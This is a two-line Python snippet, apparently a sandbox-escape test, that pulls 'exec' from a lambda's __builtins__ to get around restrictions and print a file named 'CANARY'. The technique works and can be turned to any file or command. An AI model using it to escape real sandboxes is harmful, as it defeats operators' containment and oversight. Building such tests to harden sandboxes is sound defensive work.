table = (lambda: 0).__builtins__
table["exec"]("print(open('CANARY').read())")
